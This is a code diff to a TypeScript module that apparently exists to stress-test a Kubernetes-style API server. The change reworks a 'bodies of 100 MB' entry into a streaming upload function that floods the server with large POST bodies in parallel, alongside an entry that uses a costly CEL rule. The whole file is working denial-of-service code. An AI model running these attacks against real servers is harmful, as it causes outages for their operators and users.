@@ -70,9 +70,7 @@ export const attacks: Readonly<Record<string, Attack>> = {
     }, 1_000);
   },
   'bodies of 100 MB'(target) {
-    const body = Buffer.alloc(100 << 20, 0x20);
-    const headers = { 'content-type': 'application/json', 'content-length': body.length };
-    repeat(() => ask({ ...target, method: 'POST', path: `${namespace}/configmaps`, headers }, body));
+    for (let at = 0; at < 4; at += 1) repeat(() => upload(target));
   },
   async 'a CEL rule of quadratic cost'(target) {
     const items = { type: 'array', maxItems: 1_000, items: { type: 'integer' } };
@@ -99,6 +97,29 @@ export const attacks: Readonly<Record<string, Attack>> = {
     });
   },
 };
+
+/** Sends a body of 100 MB as fast as the server takes it, whatever that answers, until it is cut off. */
+function upload(target: Target): Promise<void> {
+  const block = Buffer.alloc(1 << 20, 0x20);
+  const headers = { 'content-type': 'application/json', 'content-length': 100 * block.length };
+  return new Promise((resolve) => {
+    const outgoing = request({ ...target, method: 'POST', path: `${namespace}/configmaps`, headers });
+    let left = 100;
+    const send = (): void => {
+      while (left > 0 && !outgoing.destroyed) {
+        left -= 1;
+        if (outgoing.write(block)) continue;
+        outgoing.once('drain', send);
+        return;
+      }
+      outgoing.end();
+    };
+    outgoing.on('response', (response) => response.resume());
+    outgoing.on('error', () => undefined);
+    outgoing.on('close', resolve);
+    send();
+  });
+}
 
 function post(target: Target, path: string, object: object): Promise<number> {
   const bytes = Buffer.from(JSON.stringify(object));
